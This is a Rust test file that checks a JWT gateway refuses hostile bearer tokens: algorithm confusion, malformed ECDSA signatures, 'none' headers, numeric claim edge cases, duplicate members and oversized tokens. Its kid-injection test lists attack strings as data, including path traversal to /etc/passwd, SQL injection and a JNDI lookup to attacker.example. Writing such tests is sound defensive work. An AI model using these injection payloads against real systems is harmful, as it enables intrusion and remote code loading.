#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Hostile bearer tokens end to end (issue "hardening"): algorithm
//! confusion, ECDSA signature encodings, `kid` injection, `none` spellings,
//! numeric time claims, duplicate members and huge tokens, each answered as
//! SPEC §4 says (401 `InvalidToken` with `error="invalid_token"`) with
//! nothing sent upstream; the few a verifier must accept reach it once.
//! `tests/refusals.rs` has the basic rows (expired, wrong aud/iss, `alg:
//! none`, `crit`, HS256 keyed with the EdDSA PEM under its kid, a `jwk`
//! header); they are not repeated. The same families are unit-tested
//! against `verify` in `src/auth/jwt/tests/hostile.rs`.

mod common;

use aws_lc_rs::encoding::{AsDer, PublicKeyX509Der};
use aws_lc_rs::signature::KeyPair as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine;
use common::*;
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{json, Value};

const WWW_INVALID: &str = "Bearer realm=\"hsgate\", error=\"invalid_token\"";
const ES_KID: &str = "es1";
const RS_KID: &str = "rs1";

fn b64(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

/// `DER` of a PEM document.
fn pem_der(pem: &[u8]) -> Vec<u8> {
    let text = std::str::from_utf8(pem).unwrap();
    STANDARD.decode(text.lines().filter(|l| !l.starts_with("-----")).collect::<String>()).unwrap()
}

/// The key inside a SubjectPublicKeyInfo (its BIT STRING's bytes), found by
/// walking the DER: PKCS#1 for RSA, the point for P-256, 32 bytes for Ed25519.
fn spki_key_bytes(spki: &[u8]) -> Vec<u8> {
    fn element(der: &[u8]) -> (u8, &[u8], &[u8]) {
        let first = der[1];
        let (len, head) = if first < 0x80 {
            (usize::from(first), 2)
        } else {
            let n = usize::from(first & 0x7f);
            (der[2..2 + n].iter().fold(0usize, |acc, b| acc << 8 | usize::from(*b)), 2 + n)
        };
        (der[0], &der[head..head + len], &der[head + len..])
    }
    let (_, seq, _) = element(spki);
    let (_, _, rest) = element(seq);
    let (tag, bits, _) = element(rest);
    assert_eq!(tag, 0x03, "a BIT STRING");
    bits[1..].to_vec()
}

/// A token of this header and payload text, byte for byte (not remembered for the leak check).
fn sign_raw(header: &str, payload: &str, key: &EncodingKey, alg: Algorithm) -> String {
    let message = format!("{}.{}", b64(header.as_bytes()), b64(payload.as_bytes()));
    let sig = jsonwebtoken::crypto::sign(message.as_bytes(), key, alg).unwrap();
    format!("{message}.{sig}")
}

fn pem(label: &str, der: &[u8]) -> String {
    let b = STANDARD.encode(der);
    let lines: Vec<&str> = b.as_bytes().chunks(64).map(|c| std::str::from_utf8(c).unwrap()).collect();
    format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", lines.join("\n"))
}

/// The gateway of `TestEnv` with two more keys (ES256 `es1`, RS256 `rs1`)
/// and both algorithms allowed, put in force by a reload.
struct Hostile {
    env: TestEnv,
    es: EncodingKey,
    ed_pem: Vec<u8>,
    es_pem: Vec<u8>,
    rs_pem: Vec<u8>,
}

impl Hostile {
    async fn start() -> Hostile {
        let env = TestEnv::start(|_| {}).await;
        let es = rcgen::KeyPair::generate_for(&rcgen::PKCS_ECDSA_P256_SHA256).unwrap();
        let rsa = aws_lc_rs::rsa::KeyPair::generate(aws_lc_rs::rsa::KeySize::Rsa2048).unwrap();
        let rs_der: PublicKeyX509Der<'static> = rsa.public_key().as_der().unwrap();
        let es_pem = es.public_key_pem().into_bytes();
        let rs_pem = pem("PUBLIC KEY", rs_der.as_ref()).into_bytes();
        std::fs::write(env.path("es.pub.pem"), &es_pem).unwrap();
        std::fs::write(env.path("rs.pub.pem"), &rs_pem).unwrap();
        let before = r#"algorithms = ["EdDSA", "HS256"]"#;
        assert!(env.config_text.contains(before));
        let after = format!(
            "algorithms = [\"EdDSA\", \"HS256\", \"ES256\", \"RS256\"]\n\n\
             [[auth.pem]]\nkid = \"{ES_KID}\"\nalg = \"ES256\"\nfile = \"es.pub.pem\"\n\n\
             [[auth.pem]]\nkid = \"{RS_KID}\"\nalg = \"RS256\"\nfile = \"rs.pub.pem\"\n"
        );
        std::fs::write(&env.config_path, env.config_text.replace(before, &after)).unwrap();
        assert!(env.reload().await, "the config with es1 and rs1 is in force");
        let ed_pem = std::fs::read(env.path("ed.pub.pem")).unwrap();
        let es = EncodingKey::from_ec_pem(es.serialize_pem().as_bytes()).unwrap();
        Hostile { env, es, ed_pem, es_pem, rs_pem }
    }

    /// A token of this header and payload text, byte for byte, signed under `alg` with `key`.
    fn raw(&self, header: &str, payload: &str, key: &EncodingKey, alg: Algorithm) -> String {
        self.keep(sign_raw(header, payload, key, alg))
    }

    fn keep(&self, token: String) -> String {
        self.env.remember(&token);
        token
    }

    /// Claims for SUB, valid now, as JSON text.
    fn claims_text(&self) -> String {
        Value::Object(self.env.claims(SUB)).to_string()
    }

    /// The claims for SUB as text with `name` set to the raw JSON text `value`.
    fn claims_with(&self, name: &str, value: &str) -> String {
        let mut c = self.env.claims(SUB);
        c.remove(name);
        let text = Value::Object(c).to_string();
        format!("{},\"{name}\":{value}}}", &text[..text.len() - 1])
    }

    /// ES256 under es1 with the valid claims.
    fn es256(&self, payload: &str) -> String {
        self.raw(&format!(r#"{{"alg":"ES256","kid":"{ES_KID}"}}"#), payload, &self.es, Algorithm::ES256)
    }

    fn hs256_keyed(&self, header: Value, secret: &[u8]) -> String {
        self.raw(&header.to_string(), &self.claims_text(), &EncodingKey::from_secret(secret), Algorithm::HS256)
    }

    /// `POST` with the token; the status and ErrorCode as SPEC §4 says for a
    /// bad token, nothing upstream, and the message free of the token.
    async fn refused(&self, label: &str, token: &str, marker: Option<&str>) {
        self.env.sim.clear();
        let resp = self.env.post(token, &json!({"Id": "call-1001", "Notes": "hostile"})).await;
        assert_error(&resp, 401, "InvalidToken", label);
        assert_eq!(resp.header("www-authenticate"), Some(WWW_INVALID), "{label}: WWW-Authenticate");
        assert!(self.env.sim.requests().is_empty(), "{label}: the request reached the upstream");
        let message = resp.json()["ResponseStatus"]["Message"].as_str().unwrap().to_owned();
        let head = token.split('.').next().unwrap_or_default();
        assert!(head.is_empty() || !message.contains(head), "{label}: the message echoes the token: {message}");
        if let Some(m) = marker {
            assert!(!message.contains(m), "{label}: the message echoes {m:?}: {message}");
        }
    }

    /// `POST` with the token: forwarded once, 200.
    async fn accepted(&self, label: &str, token: &str) -> Resp {
        self.env.sim.clear();
        let resp = self.env.post(token, &json!({"Id": "call-1001", "Notes": "hostile"})).await;
        assert_eq!(resp.status, 200, "{label}: {}", resp.text());
        assert_eq!(self.env.sim.requests().len(), 1, "{label}: the upstream should see one request");
        resp
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn algorithm_confusion_hs256_keyed_with_public_keys() {
    let h = Hostile::start().await;
    let ed_der = pem_der(&h.ed_pem);
    let es_der = pem_der(&h.es_pem);
    let rs_der = pem_der(&h.rs_pem);
    let forms: Vec<(&str, &str, Vec<u8>)> = vec![
        ("EdDSA public PEM", ED_KID, h.ed_pem.clone()),
        ("EdDSA SubjectPublicKeyInfo DER", ED_KID, ed_der.clone()),
        ("EdDSA raw public key", ED_KID, spki_key_bytes(&ed_der)),
        ("ES256 public PEM", ES_KID, h.es_pem.clone()),
        ("ES256 SubjectPublicKeyInfo DER", ES_KID, es_der.clone()),
        ("ES256 uncompressed point", ES_KID, spki_key_bytes(&es_der)),
        ("RS256 public PEM", RS_KID, h.rs_pem.clone()),
        ("RS256 SubjectPublicKeyInfo DER", RS_KID, rs_der.clone()),
        ("RS256 PKCS#1 RSAPublicKey DER", RS_KID, spki_key_bytes(&rs_der)),
    ];
    for (label, kid, secret) in &forms {
        for header in
            [json!({"alg": "HS256", "kid": kid}), json!({"alg": "HS256"}), json!({"alg": "HS256", "kid": HS_KID})]
        {
            let token = h.hs256_keyed(header.clone(), secret);
            h.refused(&format!("HS256 keyed with the {label}, header {header}"), &token, None).await;
        }
    }
    // The asymmetric keys do verify their own tokens (the rows above fail for the confusion alone).
    h.accepted("ES256 under es1", &h.es256(&h.claims_text())).await;
    h.env.assert_no_leaks().await;
}

/// P-256 group order n, big-endian.
const P256_N: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc, 0xe6, 0xfa,
    0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

fn n_minus(s: &[u8]) -> Vec<u8> {
    let mut out = vec![0u8; 32];
    let mut borrow = 0i16;
    for i in (0..32).rev() {
        let d = i16::from(P256_N[i]) - i16::from(s[i]) - borrow;
        borrow = i16::from(d < 0);
        out[i] = u8::try_from(d.rem_euclid(256)).unwrap();
    }
    out
}

fn der_signature(raw: &[u8]) -> Vec<u8> {
    let int = |n: &[u8]| {
        let start = n.iter().position(|b| *b != 0).unwrap_or(n.len() - 1);
        let mut v = n[start..].to_vec();
        if v[0] & 0x80 != 0 {
            v.insert(0, 0);
        }
        [vec![0x02, u8::try_from(v.len()).unwrap()], v].concat()
    };
    let body = [int(&raw[..32]), int(&raw[32..])].concat();
    [vec![0x30, u8::try_from(body.len()).unwrap()], body].concat()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn es256_signature_encodings() {
    let h = Hostile::start().await;
    let token = h.es256(&h.claims_text());
    let (message, sig) = token.rsplit_once('.').unwrap();
    let raw = URL_SAFE_NO_PAD.decode(sig).unwrap();
    let with = |bytes: &[u8]| h.keep(format!("{message}.{}", b64(bytes)));
    let rows: Vec<(&str, String)> = vec![
        ("DER-encoded signature", with(&der_signature(&raw))),
        ("65 bytes (a trailing zero)", with(&[&raw[..], &[0]].concat())),
        ("66 bytes (r and s padded to 33)", with(&[&[0][..], &raw[..32], &[0], &raw[32..]].concat())),
        ("63 bytes", with(&raw[..63])),
        ("32 bytes (r only)", with(&raw[..32])),
        ("128 bytes (twice)", with(&[&raw[..], &raw[..]].concat())),
        ("r and s swapped", with(&[&raw[32..], &raw[..32]].concat())),
        ("all zeros", with(&[0u8; 64])),
        ("empty", h.keep(format!("{message}."))),
        ("base64 padding", h.keep(format!("{token}=="))),
    ];
    for (label, t) in &rows {
        h.refused(label, t, None).await;
    }
    // ECDSA's other valid form of the same signature verifies (JWS has no low-S rule; see the unit test).
    h.accepted("high-S twin (r, n - s)", &with(&[&raw[..32], &n_minus(&raw[32..])[..]].concat())).await;
    h.accepted("the original", &token).await;
    h.env.assert_no_leaks().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kid_injection() {
    let h = Hostile::start().await;
    let claims = h.claims_text();
    let signed = |header: Value| h.raw(&header.to_string(), &claims, &h.es, Algorithm::ES256);
    let kids = [
        "../../etc/passwd",
        "/etc/passwd",
        "' OR 1=1 --",
        "es1' OR '1'='1",
        "\u{0}",
        "es1\u{0}",
        "\u{0}es1",
        "ES1",
        " es1",
        "es1\n",
        "",
        "${jndi:ldap://attacker.example/a}",
        "https://attacker.example/jwks.json",
    ];
    for kid in kids {
        let marker = (!kid.trim().is_empty()).then_some(kid.trim_end());
        h.refused(&format!("kid {kid:?}"), &signed(json!({"alg": "ES256", "kid": kid})), marker).await;
    }
    let long = "k".repeat(10_000);
    h.refused("a 10 kB kid", &signed(json!({"alg": "ES256", "kid": long})), Some("kkkkkkkk")).await;
    for kid in [json!(null), json!(true), json!(1), json!(["es1"]), json!({"kid": "es1"})] {
        h.refused(&format!("kid {kid}"), &signed(json!({"alg": "ES256", "kid": kid})), None).await;
    }
    h.accepted("kid es1", &signed(json!({"alg": "ES256", "kid": ES_KID}))).await;
    h.env.assert_no_leaks().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn none_in_every_spelling() {
    let h = Hostile::start().await;
    let body = b64(h.claims_text().as_bytes());
    for alg in ["none", "None", "NONE", "nOnE"] {
        for header in [json!({"alg": alg}), json!({"alg": alg, "kid": ED_KID}), json!({"alg": alg, "typ": "JWT"})] {
            let head = b64(header.to_string().as_bytes());
            for (what, token) in [
                ("empty signature", format!("{head}.{body}.")),
                ("no signature part", format!("{head}.{body}")),
                ("junk signature", format!("{head}.{body}.c2lnbmF0dXJl")),
            ] {
                let token = h.keep(token);
                h.refused(&format!("{header}, {what}"), &token, None).await;
            }
        }
    }
    h.env.assert_no_leaks().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn numeric_edge_cases_in_time_claims() {
    let h = Hostile::start().await;
    let refused = [
        ("exp", "1e400"),
        ("exp", "-1"),
        ("exp", "1.5"),
        ("exp", "\"NaN\""),
        ("exp", "\"123\""),
        ("exp", "null"),
        ("nbf", "1e400"),
        ("nbf", "18446744073709551616"),
        ("nbf", "9007199254740993"),
        ("nbf", "\"NaN\""),
        ("nbf", "\"123\""),
        ("nbf", "null"),
        ("iat", "1e400"),
        ("iat", "18446744073709551616"),
        ("iat", "\"123\""),
        ("iat", "null"),
    ];
    for (name, value) in refused {
        h.refused(&format!("{name}: {value}"), &h.es256(&h.claims_with(name, value)), None).await;
    }
    // Far-future exp and past nbf/iat are valid times (only max_token_lifetime would bound them).
    let accepted = [
        ("exp", "18446744073709551616"),
        ("exp", "9007199254740993"),
        ("nbf", "-1"),
        ("nbf", "1.5"),
        ("iat", "-1"),
        ("iat", "1.5"),
    ];
    for (name, value) in accepted {
        h.accepted(&format!("{name}: {value}"), &h.es256(&h.claims_with(name, value))).await;
    }
    h.env.assert_no_leaks().await;
}

/// Last member wins (RFC 7515 §4, RFC 7519 §4), and the grant, the upstream
/// login and the audit record all see that same value.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn duplicate_members() {
    let h = Hostile::start().await;
    let claims = h.claims_text();
    let es = |header: &str| h.raw(header, &claims, &h.es, Algorithm::ES256);
    h.refused("alg ES256, then none", &es(r#"{"alg":"ES256","kid":"es1","alg":"none"}"#), None).await;
    h.refused("kid es1, then unknown", &es(r#"{"alg":"ES256","kid":"es1","kid":"nope"}"#), None).await;
    h.accepted("alg none, then ES256", &es(r#"{"alg":"none","kid":"es1","alg":"ES256"}"#)).await;
    h.accepted("kid unknown, then es1", &es(r#"{"alg":"ES256","kid":"nope","kid":"es1"}"#)).await;

    let sub_twice = |first: &str, last: &str| {
        let mut c = h.env.claims(SUB);
        c.remove("sub");
        let text = Value::Object(c).to_string();
        format!(r#"{},"sub":"{first}","sub":"{last}"}}"#, &text[..text.len() - 1])
    };
    // The last sub has no grant: 403, whatever the first one says.
    h.env.sim.clear();
    let resp = h.env.post(&h.es256(&sub_twice(SUB, "svc-stranger")), &json!({"Id": "call-1001", "Notes": "x"})).await;
    assert_error(&resp, 403, "Forbidden", "sub svc-notes, then svc-stranger");
    assert!(h.env.sim.requests().is_empty());
    let resp = h.accepted("sub svc-stranger, then svc-notes", &h.es256(&sub_twice("svc-stranger", SUB))).await;
    let record = h.env.wait_response_record(&resp.request_id()).await;
    assert_eq!(record["subject"], SUB, "the audit names the subject the grant matched");
    assert_eq!(record["grant"], "notes-service");
    h.env.assert_no_leaks().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn huge_and_nested_tokens() {
    let h = Hostile::start().await;
    // A valid token of exactly 16 KiB + 1 byte: refused for its size alone.
    // (base64 lengths skip one value in four, so the header is varied too.)
    let sized = |len: usize| {
        let found = (0..4).flat_map(|fill| (11_500..12_500).map(move |pad| (fill, pad))).find_map(|(fill, pad)| {
            let header = format!(r#"{{"alg":"ES256","kid":"{ES_KID}","x":"{}"}}"#, "h".repeat(fill));
            let claims = h.claims_with("pad", &format!("\"{}\"", "p".repeat(pad)));
            Some(sign_raw(&header, &claims, &h.es, Algorithm::ES256)).filter(|t| t.len() == len)
        });
        h.keep(found.unwrap_or_else(|| panic!("a token of {len} bytes")))
    };
    h.refused("a valid token of 16385 bytes", &sized(16 * 1024 + 1), None).await;
    h.accepted("a valid token of 16384 bytes", &sized(16 * 1024)).await;
    h.refused("16384 dots", &".".repeat(16 * 1024), None).await;
    h.refused("24 KiB of base64", &h.keep("A".repeat(24 * 1024)), None).await;
    let deep = format!(r#"{{"alg":"ES256","kid":"es1","x":{}{}}}"#, "[".repeat(5000), "]".repeat(5000));
    h.refused("header nested 5000 deep", &h.raw(&deep, &h.claims_text(), &h.es, Algorithm::ES256), None).await;
    let deep = h.claims_with("x", &format!("{}{}", "[".repeat(5000), "]".repeat(5000)));
    h.refused("claims nested 5000 deep", &h.es256(&deep), None).await;

    // A head over the server's buffer is refused by the HTTP layer; nothing reaches the upstream.
    h.env.sim.clear();
    let req = h.env.req(&"A".repeat(80 * 1024), &json!({"Id": "call-1001", "Notes": "x"}));
    let resp = h.env.send(&req).await;
    assert_eq!(resp.status, 431, "an 80 KiB Authorization header: {}", resp.text());
    assert!(h.env.sim.requests().is_empty());
    h.env.assert_no_leaks().await;
}
